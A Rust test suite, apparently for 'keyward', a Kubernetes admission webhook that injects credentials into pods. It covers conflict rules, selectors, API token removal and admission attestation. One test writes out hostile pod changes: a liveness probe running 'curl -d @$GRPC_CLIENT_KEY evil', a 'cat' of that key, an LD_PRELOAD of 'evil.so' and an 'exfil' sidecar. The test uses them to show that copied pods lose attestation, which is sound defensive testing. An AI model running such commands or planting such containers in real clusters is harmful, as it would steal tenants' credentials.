//! The profile features, each on a pod shaped as the apiserver sends it (defaulted, with the
//! `kube-api-access-*` volume the ServiceAccount plugin adds): skipping on conflict, accepting a
//! credential already delivered, annotation selectors, plain env vars, removing the API token
//! without a swap, and the objects an injected pod comes to depend on.
#![allow(clippy::unwrap_used)] // a panic is the test failure report

mod support;

use keyward_engine::{Reason, RequestFacts, Requirement};
use serde_json::{json, Value};
use support::*;

const OPERATOR: &str = "system:serviceaccount:ops:demo-operator";

/// A pod a Deployment's ReplicaSet would create, after defaulting and the ServiceAccount plugin.
fn pod(annotations: Value, mounts: Value, volumes: Value) -> Value {
    let api = json!({"name": "kube-api-access-q8x2v", "projected": {"defaultMode": 420, "sources": [
        {"serviceAccountToken": {"expirationSeconds": 3607, "path": "token"}},
        {"configMap": {"name": "kube-root-ca.crt", "items": [{"key": "ca.crt", "path": "ca.crt"}]}},
        {"downwardAPI": {"items": [{"path": "namespace", "fieldRef": {"apiVersion": "v1", "fieldPath": "metadata.namespace"}}]}}]}});
    let api_mount = json!({"name": "kube-api-access-q8x2v", "readOnly": true, "mountPath": "/var/run/secrets/kubernetes.io/serviceaccount"});
    let mut mounts = mounts.as_array().cloned().unwrap_or_default();
    mounts.push(api_mount);
    let mut volumes = volumes.as_array().cloned().unwrap_or_default();
    volumes.push(api);
    json!({
        "apiVersion": "v1", "kind": "Pod",
        "metadata": {
            "generateName": "demo-7c9d8b7f5-", "namespace": "team-a",
            "labels": {"app": "demo", "pod-template-hash": "7c9d8b7f5"},
            "annotations": annotations,
            "ownerReferences": [{"apiVersion": "apps/v1", "kind": "ReplicaSet", "name": "demo-7c9d8b7f5",
                "uid": "0f3c2b1a-5d4e-4f6a-8b9c-0d1e2f3a4b5c", "controller": true, "blockOwnerDeletion": true}]
        },
        "spec": {
            "containers": [{"name": "app", "image": "registry.example/demo:1.0", "imagePullPolicy": "IfNotPresent",
                "env": [{"name": "LOG_LEVEL", "value": "info"}],
                "volumeMounts": mounts,
                "terminationMessagePath": "/dev/termination-log", "terminationMessagePolicy": "File"}],
            "volumes": volumes,
            "serviceAccountName": "default", "serviceAccount": "default",
            "restartPolicy": "Always", "dnsPolicy": "ClusterFirst", "schedulerName": "default-scheduler",
            "terminationGracePeriodSeconds": 30, "securityContext": {}, "enableServiceLinks": true,
            "preemptionPolicy": "PreemptLowerPriority", "priority": 0,
            "tolerations": [
                {"key": "node.kubernetes.io/not-ready", "operator": "Exists", "effect": "NoExecute", "tolerationSeconds": 300},
                {"key": "node.kubernetes.io/unreachable", "operator": "Exists", "effect": "NoExecute", "tolerationSeconds": 300}]
        },
        "status": {}
    })
}

fn plain_pod() -> Value {
    pod(json!({}), json!([]), json!([]))
}

/// A profile for `app: demo` pods created by [`OPERATOR`], with `extra` spec fields and `inject`.
fn profile(extra: &str, inject: &str) -> String {
    format!(
        "apiVersion: keyward.io/v1alpha1\nkind: InjectionProfile\nmetadata: {{name: demo}}\nspec:\n  selector: {{matchLabels: {{app: demo}}}}\n  requesters: {{usernames: [\"{OPERATOR}\"]}}\n{extra}  inject:\n{inject}"
    )
}

const TOKEN_AT_M: &str =
    "    serviceAccountToken: {audience: api.example, path: t, mountPath: /var/run/secrets/example}\n";

// === onConflict ===

#[test]
fn on_conflict_skip_admits_the_pod_unchanged_and_says_why() {
    let mounts = json!([{"name": "scratch", "mountPath": "/var/run/secrets/example"}]);
    let pod = pod(json!({}), mounts, json!([{"name": "scratch", "emptyDir": {}}]));
    let yaml = profile("  onConflict: skip\n", TOKEN_AT_M);
    let d = decide(&create("team-a", OPERATOR), &pod, &profiles(&yaml));
    assert_eq!(d.reason, Reason::ConflictSkipped);
    assert_eq!(d.reason.as_str(), "conflict-skipped");
    assert!(d.allowed());
    assert!(d.patch().is_empty());
    assert_eq!(
        d.warnings,
        ["keyward: profile \"demo\" injected nothing into this pod (onConflict: skip): container \"app\" already mounts volume \"scratch\" at \"/var/run/secrets/example\" (spec.containers[0].volumeMounts[0]), where profile \"demo\" mounts \"keyward-sa-token\"; move that mount to another path, or list the containers that need credentials in the profile's spec.containers"]
    );

    // The default is to refuse, with the same reason as the message.
    let d = decide(&create("team-a", OPERATOR), &pod, &profiles(&profile("", TOKEN_AT_M)));
    assert_eq!(d.reason, Reason::Conflict);
    assert!(d.message().unwrap().starts_with(
        "keyward: profile \"demo\" cannot inject into this pod: container \"app\" already mounts volume \"scratch\""
    ));
}

// === the same credential, already delivered ===

#[test]
fn a_token_for_the_same_audience_and_path_already_mounted_counts_as_injected() {
    // As the KFP manifests mount theirs: another volume name, no readOnly, no defaultMode.
    let mounts = json!([{"name": "own-token", "mountPath": "/var/run/secrets/example"}]);
    let volumes = json!([{"name": "own-token", "projected": {"sources": [
        {"serviceAccountToken": {"audience": "api.example", "expirationSeconds": 7200, "path": "t"}}]}}]);
    let pod = pod(json!({}), mounts, volumes);
    let (d, after) = admit(&create("team-a", OPERATOR), &pod, &profiles(&profile("", TOKEN_AT_M)));
    assert_eq!(d.reason, Reason::Injected);
    assert_eq!(
        d.warnings,
        ["keyward: profile \"demo\" serviceAccountToken: container \"app\" already gets a token for audience \"api.example\" as \"t\" at \"/var/run/secrets/example\" (volume \"own-token\"); keyward counts it as injected and adds no other"]
    );
    // Only the audit record and the label are added; the pod's volumes and mounts are as they were.
    assert_eq!(after["spec"], pod["spec"]);
    let patch = patch_json(&d);
    let ops: Vec<&str> = patch.as_array().unwrap().iter().map(|op| op["path"].as_str().unwrap()).collect();
    assert_eq!(ops, ["/metadata/annotations/keyward.io~1injected", "/metadata/labels/keyward.io~1profile"]);
    assert_eq!(d.outcome.as_ref().unwrap().requires().count(), 0);
}

/// A pod's own token volume of the profile's name that lives shorter than the profile's, when
/// the profile also removes the API token: the lifetime is set on that volume where it sits
/// once the API token's volume before it is gone (the patch applies strictly, in order).
#[test]
fn a_token_lifetime_is_set_on_the_right_volume_after_the_api_token_is_removed() {
    let mounts = json!([{"name": "keyward-sa-token", "mountPath": "/var/run/secrets/example", "readOnly": true}]);
    let volumes = json!([{"name": "keyward-sa-token", "projected": {"defaultMode": 420, "sources": [
        {"serviceAccountToken": {"audience": "api.example", "expirationSeconds": 3600, "path": "t"}}]}}]);
    let mut pod = pod(json!({}), mounts, volumes);
    // The ServiceAccount plugin's volume first, the pod's token second.
    pod["spec"]["volumes"].as_array_mut().unwrap().reverse();
    let inject = "    serviceAccountToken: {audience: api.example, path: t, mountPath: /var/run/secrets/example, expirationSeconds: 21600, readerRefreshSeconds: 3600}\n    apiToken: remove\n";
    let (d, after) = admit(&create("team-a", OPERATOR), &pod, &profiles(&profile("", inject)));
    assert_eq!(d.reason, Reason::Injected);
    let patch = patch_json(&d);
    let spec_ops: Vec<&Value> =
        patch.as_array().unwrap().iter().filter(|op| op["path"].as_str().unwrap().starts_with("/spec")).collect();
    assert_eq!(
        spec_ops,
        [
            &json!({"op": "add", "path": "/spec/automountServiceAccountToken", "value": false}),
            &json!({"op": "remove", "path": "/spec/containers/0/volumeMounts/1"}),
            &json!({"op": "remove", "path": "/spec/volumes/0"}),
            &json!({"op": "replace", "path": "/spec/volumes/0/projected/sources/0/serviceAccountToken/expirationSeconds", "value": 21600}),
        ]
    );
    assert_eq!(
        after["spec"]["volumes"],
        json!([{"name": "keyward-sa-token", "projected": {"defaultMode": 420, "sources": [
            {"serviceAccountToken": {"audience": "api.example", "expirationSeconds": 21600, "path": "t"}}]}}])
    );
}

#[test]
fn a_secret_with_the_same_keys_already_mounted_counts_as_injected_and_another_does_not() {
    let inject = "    token: {secretName: api-key, key: token, mountPath: /var/run/secrets/example}\n";
    let mounts = json!([{"name": "creds", "mountPath": "/var/run/secrets/example", "readOnly": true}]);
    let whole = pod(
        json!({}),
        mounts.clone(),
        json!([{"name": "creds", "secret": {"secretName": "api-key", "defaultMode": 420}}]),
    );
    let (d, after) = admit(&create("team-a", OPERATOR), &whole, &profiles(&profile("", inject)));
    assert_eq!(d.reason, Reason::Injected);
    assert_eq!(after["spec"], whole["spec"]);
    assert!(d.warnings[0].contains("already gets token of Secret \"api-key\""), "{:?}", d.warnings);

    // The same Secret with the key under another file name delivers something else.
    let renamed = pod(
        json!({}),
        mounts,
        json!([{"name": "creds", "secret": {"secretName": "api-key", "items": [{"key": "token", "path": "api-token"}]}}]),
    );
    let d = decide(&create("team-a", OPERATOR), &renamed, &profiles(&profile("", inject)));
    assert_eq!(d.reason, Reason::Conflict);
    assert!(d.message().unwrap().contains("already mounts volume \"creds\" at \"/var/run/secrets/example\""));
}

#[test]
fn a_token_for_another_audience_is_a_conflict() {
    let mounts = json!([{"name": "own-token", "mountPath": "/var/run/secrets/example"}]);
    let volumes = json!([{"name": "own-token", "projected": {"sources": [
        {"serviceAccountToken": {"audience": "other.example", "path": "t"}}]}}]);
    let d = decide(&create("team-a", OPERATOR), &pod(json!({}), mounts, volumes), &profiles(&profile("", TOKEN_AT_M)));
    assert_eq!(d.reason, Reason::Conflict);
}

// === annotation selectors ===

#[test]
fn an_annotation_selector_selects_by_annotations_with_the_label_operators() {
    let yaml = "apiVersion: keyward.io/v1alpha1\nkind: InjectionProfile\nmetadata: {name: authed}\nspec:\n  annotationSelector:\n    matchAnnotations: {security.example.com/enable-auth: \"true\"}\n    matchExpressions:\n      - {key: example.com/tier, operator: NotIn, values: [dev]}\n  requesters: {usernames: [\"system:serviceaccount:ops:demo-operator\"]}\n  inject:\n    env:\n      - {name: AUTH_MODE, value: token}\n";
    let set = profiles(yaml);
    let facts = create("team-a", OPERATOR);

    let (d, after) =
        admit(&facts, &pod(json!({"security.example.com/enable-auth": "true"}), json!([]), json!([])), &set);
    assert_eq!(d.reason, Reason::Injected);
    assert_eq!(after["spec"]["containers"][0]["env"][1], json!({"name": "AUTH_MODE", "value": "token"}));

    for (annotations, why) in [
        (json!({}), "annotation security.example.com/enable-auth is missing"),
        (
            json!({"security.example.com/enable-auth": "false"}),
            "annotation security.example.com/enable-auth=\"false\", the profile wants \"true\"",
        ),
        (json!({"security.example.com/enable-auth": "true", "example.com/tier": "dev"}), "annotation example.com/tier"),
    ] {
        let e = explain(&facts, &pod(annotations.clone(), json!([]), json!([])), &set);
        assert_eq!(e.decision.reason, Reason::NoProfile, "{annotations}");
        assert!(e.trace[0].why.starts_with(why), "{annotations}: {}", e.trace[0].why);
    }
}

// === plain env vars, and the API token removed without a swap ===

#[test]
fn plain_env_and_api_token_removal_keep_the_account() {
    let inject = "    env:\n      - {name: AUTH_MODE, value: token}\n    apiToken: remove\n";
    let (d, after) = admit(&create("team-a", OPERATOR), &plain_pod(), &profiles(&profile("", inject)));
    assert_eq!(
        patch_json(&d),
        json!([
            {"op": "add", "path": "/spec/automountServiceAccountToken", "value": false},
            {"op": "remove", "path": "/spec/containers/0/volumeMounts/0"},
            {"op": "remove", "path": "/spec/volumes/0"},
            {"op": "add", "path": "/spec/containers/0/env/-", "value": {"name": "AUTH_MODE", "value": "token"}},
            {"op": "add", "path": "/metadata/annotations/keyward.io~1injected",
             "value": r#"{"profile":"demo","injected":[{"kind":"env","names":"AUTH_MODE"},{"kind":"apiToken","apiToken":"remove"}],"containers":"all"}"#},
            {"op": "add", "path": "/metadata/labels/keyward.io~1profile", "value": "demo"}
        ])
    );
    assert_eq!(after["spec"]["serviceAccountName"], "default");
    assert_eq!(after["spec"]["volumes"], json!([]));
    assert!(!d.audit_annotations.contains_key("original-service-account"));
}

// === what the pod comes to depend on ===

#[test]
fn requires_lists_each_new_dependency_with_its_provider_once() {
    let inject = "    clientCertificate: {secretName: \"{owner.name}-client\", mountPath: /var/run/secrets/example/client}\n    serverCA: {configMapName: site-ca, mountPath: /var/run/secrets/example/ca}\n    token: {secretName: api-key, mountPath: /var/run/secrets/example/token, valueEnv: API_KEY}\n    serviceAccount: {name: demo-runner, provider: keyward, bindings: [{kind: ClusterRole, name: view}]}\n";
    let set = profiles(&profile("  controllerOwners: [{apiGroup: apps, kind: ReplicaSet}]\n", inject));
    let facts = create("team-a", OPERATOR);
    let (d, after) = admit(&facts, &plain_pod(), &set);
    let requires: Vec<(String, &str, &str)> = d
        .outcome
        .as_ref()
        .unwrap()
        .requires()
        .map(|r: &Requirement| (format!("{:?}", r.kind), r.name.as_str(), r.provided_by.as_str()))
        .collect();
    assert_eq!(
        requires,
        [
            ("Secret".to_string(), "demo-7c9d8b7f5-client", "keyward"),
            ("ConfigMap".to_string(), "site-ca", "user"),
            ("Secret".to_string(), "api-key", "user"),
            ("ServiceAccount".to_string(), "demo-runner", "keyward"),
        ]
    );
    // On the injected pod (a reinvocation) nothing is new.
    let again = decide(&facts, &after, &set);
    assert_eq!(again.reason, Reason::AlreadyInjected);
    assert_eq!(again.outcome.as_ref().unwrap().requires().count(), 0);
}

// === the admission attestation ===

const LMEVAL_OPERATOR: &str = "system:serviceaccount:lm-eval:lm-eval-controller-manager";

/// What the controller finds of the attestation on `pod` as stored (created at `created`),
/// worked out as it works it out: the profile's injection re-decided on the pod, the pod's
/// binding under it, the tag checked with `attestor`.
fn stored_verdict(pod: &Value, attestor: &TestAttestor, created: u64) -> keyward_engine::attest::Verdict {
    use keyward_engine::attest::{self, OwnerRef, Subject};
    use keyward_engine::binding::{self, Masks};
    use keyward_engine::Attestor as _;
    let d = decide(&create("team-a", LMEVAL_OPERATOR), pod, &builtin());
    assert_eq!(d.reason, Reason::AlreadyInjected, "{:?}", d.message());
    let injections = &d.outcome.as_ref().unwrap().injections;
    let bound = binding::of_raw(Some(&raw(&pod["spec"])), &Masks::of(injections)).unwrap();
    let owner = &pod["metadata"]["ownerReferences"][0];
    let annotations = &pod["metadata"]["annotations"];
    let subject = Subject {
        namespace: "team-a",
        owner: OwnerRef {
            group: "foundation-model-stack.github.com.github.com",
            kind: "LMEvalJob",
            name: owner["name"].as_str().unwrap(),
            uid: owner["uid"].as_str().unwrap(),
        },
        profile: "lmeval",
        injected: annotations["keyward.io/injected"].as_str().unwrap_or_default(),
    };
    attest::check(annotations["keyward.io/attestation"].as_str(), &subject, &bound, Some(created), |p, id, tag| {
        attestor.verifies(p, id, tag)
    })
}

#[test]
fn a_pod_whose_owner_gets_credentials_is_attested_once_and_a_forgery_is_replaced() {
    let attestor = TestAttestor { key: Some(1) };
    let facts = create("team-a", LMEVAL_OPERATOR).attested_by(&attestor);
    let (d, after) = admit(&facts, &fixture("lmeval-fms-driver-pod.json"), &builtin());
    assert_eq!(d.reason, Reason::Injected);
    let value = after["metadata"]["annotations"]["keyward.io/attestation"].as_str().unwrap().to_string();
    assert!(value.starts_with(&format!("v2.1.{ADMITTED_AT}.n")), "{value}");
    assert_eq!(stored_verdict(&after, &attestor, ADMITTED_AT + 1), keyward_engine::attest::Verdict::Valid);
    let ops = patch_json(&d);
    assert!(
        ops.as_array().unwrap().iter().any(|op| op["path"] == "/metadata/annotations/keyward.io~1attestation"),
        "{ops}"
    );
    // A reinvocation changes nothing (`admit` checked it): the attestation is kept.
    let again = decide(&facts, &after, &builtin());
    assert_eq!((again.reason, again.patch().len()), (Reason::AlreadyInjected, 0));

    // A pod that arrives with an attestation it wrote itself gets a real one instead.
    let mut forged = fixture("lmeval-fms-driver-pod.json");
    forged["metadata"]["annotations"] = json!({"keyward.io/attestation": "v2.1.1796196142.n0.AAAA.0000000000000000"});
    let (_, after) = admit(&facts, &forged, &builtin());
    let replaced = after["metadata"]["annotations"]["keyward.io/attestation"].as_str().unwrap();
    assert_ne!(replaced, "v2.1.1796196142.n0.AAAA.0000000000000000");
    assert_eq!(stored_verdict(&after, &attestor, ADMITTED_AT), keyward_engine::attest::Verdict::Valid);
    // Under another key (another cluster's webhook), it does not verify.
    assert_eq!(
        stored_verdict(&after, &TestAttestor { key: Some(2) }, ADMITTED_AT),
        keyward_engine::attest::Verdict::Forged
    );
}

/// A change a tenant makes to a copied pod, named.
type Change = (&'static str, fn(&mut Value));

/// The copy a tenant makes of the operator's driver pod: its annotations, labels, owner and
/// keyward's volumes, on a pod of her own (`change` makes it hers).
fn copy_of(original: &Value, change: impl Fn(&mut Value)) -> Value {
    let mut copy = original.clone();
    copy["metadata"]["name"] = json!("tenant-pod");
    change(&mut copy);
    copy
}

#[test]
fn an_attestation_is_bound_to_what_the_pod_runs_and_mounts() {
    use keyward_engine::attest::Verdict;
    let attestor = TestAttestor { key: Some(1) };
    let facts = create("team-a", LMEVAL_OPERATOR).attested_by(&attestor);
    let (_, original) = admit(&facts, &fixture("lmeval-fms-driver-pod.json"), &builtin());
    let changes: [Change; 7] = [
        ("another image", |p| p["spec"]["containers"][0]["image"] = json!("quay.io/tenant/steal:1")),
        ("another command", |p| p["spec"]["containers"][0]["command"] = json!(["sh", "-c", "cat $GRPC_CLIENT_KEY"])),
        ("another env var", |p| {
            p["spec"]["containers"][0]["env"]
                .as_array_mut()
                .unwrap()
                .push(json!({"name": "LD_PRELOAD", "value": "/x/evil.so"}))
        }),
        ("another volume and mount", |p| {
            p["spec"]["volumes"]
                .as_array_mut()
                .unwrap()
                .push(json!({"name": "tools", "configMap": {"name": "tenant-tools", "defaultMode": 420}}));
            p["spec"]["containers"][0]["volumeMounts"]
                .as_array_mut()
                .unwrap()
                .push(json!({"name": "tools", "mountPath": "/opt/app-root/bin"}));
        }),
        ("another service account", |p| p["spec"]["serviceAccountName"] = json!("tenant-sa")),
        (
            "an exec probe",
            |p| p["spec"]["containers"][0]["livenessProbe"] = json!({"exec": {"command": ["sh", "-c", "curl -d @$GRPC_CLIENT_KEY evil"]}, "periodSeconds": 10, "timeoutSeconds": 1, "successThreshold": 1, "failureThreshold": 3}),
        ),
        ("a sidecar", |p| {
            p["spec"]["containers"].as_array_mut().unwrap().push(json!({"name": "exfil", "image": "quay.io/tenant/steal:1", "terminationMessagePath": "/dev/termination-log", "terminationMessagePolicy": "File", "imagePullPolicy": "IfNotPresent"}))
        }),
    ];
    for (what, change) in changes {
        let copy = copy_of(&original, change);
        // As stored (never through the webhook: labelled out, or not selected at creation).
        assert_eq!(stored_verdict(&copy, &attestor, ADMITTED_AT + 30), Verdict::Rebound, "{what}");
        // Through the webhook as the operator: the copy is not kept, a new one is made for it.
        let d = decide(&facts, &copy, &builtin());
        let after = apply(&copy, &d);
        assert_ne!(
            after["metadata"]["annotations"]["keyward.io/attestation"],
            original["metadata"]["annotations"]["keyward.io/attestation"],
            "{what}"
        );
    }
    // The very same pod, created long after the original was admitted: a copy too.
    let late = copy_of(&original, |_| {});
    assert_eq!(
        stored_verdict(&late, &attestor, ADMITTED_AT + 3600),
        Verdict::Untimely { at: ADMITTED_AT, created: Some(ADMITTED_AT + 3600) }
    );
    // What the scheduler, the kubelet and the in-tree plugins change is not bound.
    let scheduled = copy_of(&original, |p| {
        p["spec"]["nodeName"] = json!("worker-2");
        p["spec"]["containers"][0]["resources"] = json!({"limits": {"cpu": "2"}, "requests": {"cpu": "2"}});
        p["spec"]["tolerations"] = json!([]);
        p["status"] = json!({"phase": "Running"});
    });
    assert_eq!(stored_verdict(&scheduled, &attestor, ADMITTED_AT), Verdict::Valid);
}

#[test]
fn another_webhook_adding_a_sidecar_before_keyward_is_reinvoked_keeps_the_identity() {
    use keyward_engine::attest::Verdict;
    let attestor = TestAttestor { key: Some(1) };
    let facts = create("team-a", LMEVAL_OPERATOR).attested_by(&attestor);
    let (_, first) = admit(&facts, &fixture("lmeval-fms-driver-pod.json"), &builtin());
    // A mesh injector after keyward: an init container, a sidecar and their volume.
    let mut meshed = first.clone();
    meshed["spec"]["initContainers"] = json!([{"name": "mesh-init", "image": "mesh/proxy:1", "args": ["iptables"], "terminationMessagePath": "/dev/termination-log", "terminationMessagePolicy": "File", "imagePullPolicy": "IfNotPresent"}]);
    meshed["spec"]["containers"].as_array_mut().unwrap().push(json!({"name": "mesh-proxy", "image": "mesh/proxy:1", "volumeMounts": [{"name": "mesh-certs", "mountPath": "/etc/mesh"}], "terminationMessagePath": "/dev/termination-log", "terminationMessagePolicy": "File", "imagePullPolicy": "IfNotPresent"}));
    meshed["spec"]["volumes"]
        .as_array_mut()
        .unwrap()
        .push(json!({"name": "mesh-certs", "emptyDir": {"medium": "Memory"}}));
    // Not reinvoked: the stored pod is not what keyward admitted.
    assert_eq!(stored_verdict(&meshed, &attestor, ADMITTED_AT), Verdict::Rebound);
    // Reinvoked (IfNeeded): keyward attests the pod as it now is, and that holds as stored.
    let d = decide(&facts, &meshed, &builtin());
    assert_eq!(d.reason, Reason::Injected, "{:?}", d.message());
    let stored = apply(&meshed, &d);
    assert_eq!(stored_verdict(&stored, &attestor, ADMITTED_AT), Verdict::Valid);
    let again = decide(&facts, &stored, &builtin());
    assert_eq!((again.reason, again.patch().len()), (Reason::AlreadyInjected, 0));
}

#[test]
fn a_copied_attestation_does_not_survive_the_webhook_on_any_path_that_writes_none() {
    let attestor = TestAttestor { key: Some(1) };
    let operator = create("team-a", LMEVAL_OPERATOR).attested_by(&attestor);
    let (_, original) = admit(&operator, &fixture("lmeval-fms-driver-pod.json"), &builtin());
    let copied = |pod: &mut Value| {
        if !pod["metadata"]["annotations"].is_object() {
            pod["metadata"]["annotations"] = json!({});
        }
        let annotations = pod["metadata"]["annotations"].as_object_mut().unwrap();
        for key in ["keyward.io/attestation", "keyward.io/injected"] {
            annotations.insert(key.into(), original["metadata"]["annotations"][key].clone());
        }
    };
    let skip_profile = profile(
        "  controllerOwners: [{apiGroup: apps, kind: ReplicaSet}]\n  requesters: {usernames: [\"someone-else\"], otherwise: skip}\n",
        "    clientCertificate: {secretName: \"{owner.name}-client\", mountPath: /var/run/secrets/demo/client, provider: keyward}\n",
    )
    .replace(&format!("  requesters: {{usernames: [\"{OPERATOR}\"]}}\n"), "");
    let mut tenant_pod = plain_pod();
    copied(&mut tenant_pod);
    let mut unselected = fixture("lmeval-fms-driver-pod.json");
    unselected["metadata"]["labels"] = json!({"app": "tenant"});
    copied(&mut unselected);
    let mut conflicting = fixture("lmeval-fms-driver-pod-grpc-tls.json");
    copied(&mut conflicting);
    let mut kfp = fixture("kfp-persistenceagent-pod-no-token.json");
    kfp["metadata"]["annotations"] = json!({});
    copied(&mut kfp);
    let cases: [(&str, RequestFacts<'_>, &Value, keyward_engine::ProfileSet, Reason); 4] = [
        ("no profile selects it", operator, &unselected, builtin(), Reason::NoProfile),
        (
            "the requester is skipped",
            create("team-a", OPERATOR).attested_by(&attestor),
            &tenant_pod,
            profiles(&skip_profile),
            Reason::RequesterSkipped,
        ),
        ("the conflict is skipped", operator, &conflicting, builtin(), Reason::ConflictSkipped),
        (
            "the profile issues nothing per owner",
            create("kubeflow", REPLICASET_CONTROLLER).attested_by(&attestor),
            &kfp,
            builtin(),
            Reason::Injected,
        ),
    ];
    for (what, facts, pod, set, reason) in cases {
        let d = decide(&facts, pod, &set);
        assert_eq!(d.reason, reason, "{what}: {:?}", d.message());
        let after = apply(pod, &d);
        assert!(after["metadata"]["annotations"].get("keyward.io/attestation").is_none(), "{what}: {after:#}");
        let injected = after["metadata"]["annotations"].get("keyward.io/injected");
        assert_ne!(injected, original["metadata"]["annotations"].get("keyward.io/injected"), "{what}");
        assert!(
            d.warnings.iter().any(|w| w.starts_with("keyward: removed keyward.io/attestation")),
            "{what}: {:?}",
            d.warnings
        );
    }
    // Outside the webhook's own admission (explain, a stored pod re-decided) nothing is removed.
    let d = decide(&create("team-a", LMEVAL_OPERATOR), &unselected, &builtin());
    assert!(d.patch().is_empty());
}

#[test]
fn without_a_key_a_pod_that_needs_an_attestation_is_refused_and_others_are_not_attested() {
    let keyless = TestAttestor { key: None };
    let d = decide(
        &create("team-a", LMEVAL_OPERATOR).attested_by(&keyless),
        &fixture("lmeval-fms-driver-pod.json"),
        &builtin(),
    );
    assert_eq!(d.reason, Reason::Unattestable);
    assert_eq!(
        d.message().unwrap(),
        "keyward: profile \"lmeval\" issues credentials for this pod's owner, which needs keyward's admission attestation, and this webhook has no attestation key loaded yet (keyward's controller creates the Secret keyward-attestation; the kubelet delivers it within a minute or two); retry then"
    );
    // The KFP agents get a projected token, nothing per owner: no attestation, key or not.
    let (d, after) = admit(
        &create("kubeflow", "system:serviceaccount:kube-system:replicaset-controller").attested_by(&keyless),
        &fixture("kfp-persistenceagent-pod-no-token.json"),
        &builtin(),
    );
    assert_eq!(d.reason, Reason::Injected);
    assert!(after["metadata"]["annotations"].get("keyward.io/attestation").is_none());
    // A requester the profile refuses gets no attestation either (it is refused).
    let d = decide(
        &create("team-a", "system:serviceaccount:team-a:someone").attested_by(&TestAttestor { key: Some(1) }),
        &fixture("lmeval-fms-driver-pod.json"),
        &builtin(),
    );
    assert_eq!(d.reason, Reason::RequesterDenied);
}

#[test]
fn a_profile_that_issues_per_owner_must_name_its_owner_kinds() {
    let yaml = profile("", "    clientCertificate: {secretName: \"{owner.name}-client\", mountPath: /var/run/secrets/example/client, provider: keyward}\n");
    let err = keyward_engine::ProfileSet::from_sources([("test.yaml".to_string(), yaml)]).unwrap_err().to_string();
    assert!(
        err.contains("spec.controllerOwners: must name the owner kinds (apiGroup, kind) keyward issues per-owner credentials for"),
        "{err}"
    );
}

// === what containers the profile does not name may get ===

/// The demo pod with a second container, `sidecar`, that mounts `sidecar_mounts` (and the API
/// token, as the ServiceAccount plugin adds it to every container).
fn pod_with_sidecar(sidecar_mounts: Value, extra_volumes: Value) -> Value {
    let mut pod = pod(json!({}), json!([]), extra_volumes);
    let mut mounts = sidecar_mounts.as_array().cloned().unwrap_or_default();
    mounts.push(json!({"name": "kube-api-access-q8x2v", "readOnly": true, "mountPath": "/var/run/secrets/kubernetes.io/serviceaccount"}));
    pod["spec"]["containers"].as_array_mut().unwrap().push(json!({
        "name": "sidecar", "image": "registry.example/proxy:2.1", "imagePullPolicy": "IfNotPresent",
        "volumeMounts": mounts,
        "terminationMessagePath": "/dev/termination-log", "terminationMessagePolicy": "File"}));
    pod
}

const CLIENT_CERT_INTO_APP: &str = "    clientCertificate: {secretName: \"{owner.name}-client\", mountPath: /var/run/secrets/example/client, provider: keyward}\n";

#[test]
fn a_container_the_profile_does_not_name_may_not_mount_what_keyward_injects() {
    let yaml = profile(
        "  controllerOwners: [{apiGroup: apps, kind: ReplicaSet}]\n  containers: [app]\n",
        CLIENT_CERT_INTO_APP,
    );
    // The sidecar names keyward's volume, at a path of its own: it would read the client key.
    let pod = pod_with_sidecar(
        json!([{"name": "keyward-client-cert", "mountPath": "/elsewhere", "readOnly": true}]),
        json!([]),
    );
    let d = decide(&create("team-a", OPERATOR), &pod, &profiles(&yaml));
    assert_eq!(d.reason, Reason::Conflict);
    assert_eq!(
        d.message().unwrap(),
        "keyward: profile \"demo\" cannot inject into this pod: container \"sidecar\" mounts volume \"keyward-client-cert\" at \"/elsewhere\" (spec.containers[1].volumeMounts[0]), but profile \"demo\" injects that volume only into app; remove that mount, or add \"sidecar\" to the profile's spec.containers"
    );
    // With onConflict: skip, nothing is injected at all (and the audit record claims nothing).
    let skip = profile(
        "  controllerOwners: [{apiGroup: apps, kind: ReplicaSet}]\n  containers: [app]\n  onConflict: skip\n",
        CLIENT_CERT_INTO_APP,
    );
    let d = decide(&create("team-a", OPERATOR), &pod, &profiles(&skip));
    assert_eq!((d.reason, d.patch().len()), (Reason::ConflictSkipped, 0));
    // Without the sidecar's mount, the same pod is injected, into app alone.
    let (d, after) = admit(&create("team-a", OPERATOR), &pod_with_sidecar(json!([]), json!([])), &profiles(&yaml));
    assert_eq!(d.reason, Reason::Injected);
    let sidecar_mounts: Vec<&str> = after["spec"]["containers"][1]["volumeMounts"]
        .as_array()
        .unwrap()
        .iter()
        .map(|m| m["name"].as_str().unwrap())
        .collect();
    assert_eq!(sidecar_mounts, ["kube-api-access-q8x2v"]);
}

#[test]
fn api_token_remove_takes_every_token_for_the_api_server_and_keeps_tokens_for_other_audiences() {
    let yaml = profile("", "    apiToken: remove\n");
    // A second token for the API server (no audience) mounted by the sidecar, and a token for
    // another audience that stays.
    let extra = json!([
        {"name": "api-token-2", "projected": {"defaultMode": 420, "sources": [{"serviceAccountToken": {"expirationSeconds": 3600, "path": "token"}}]}},
        {"name": "vault-token", "projected": {"defaultMode": 420, "sources": [{"serviceAccountToken": {"audience": "vault", "expirationSeconds": 3600, "path": "token"}}]}},
        {"name": "scratch", "emptyDir": {}}
    ]);
    let sidecar = json!([
        {"name": "api-token-2", "mountPath": "/var/run/secrets/extra", "readOnly": true},
        {"name": "vault-token", "mountPath": "/var/run/secrets/vault", "readOnly": true},
        {"name": "scratch", "mountPath": "/scratch"}
    ]);
    let pod = pod_with_sidecar(sidecar, extra);
    let (d, after) = admit(&create("team-a", OPERATOR), &pod, &profiles(&yaml));
    assert_eq!(d.reason, Reason::Injected);
    assert_valid(&after);
    let names = |v: &Value| -> Vec<String> {
        v.as_array().unwrap().iter().map(|x| x["name"].as_str().unwrap().to_string()).collect()
    };
    assert_eq!(
        names(&after["spec"]["volumes"]),
        ["vault-token", "scratch"],
        "both API tokens gone; the rest, in order"
    );
    assert_eq!(names(&after["spec"]["containers"][0]["volumeMounts"]), Vec::<String>::new());
    assert_eq!(names(&after["spec"]["containers"][1]["volumeMounts"]), ["vault-token", "scratch"]);
    assert_eq!(after["spec"]["automountServiceAccountToken"], false);
    // And again: nothing left to remove.
    let again = decide(&create("team-a", OPERATOR), &after, &profiles(&yaml));
    assert_eq!((again.reason, again.patch().len()), (Reason::AlreadyInjected, 0));
}
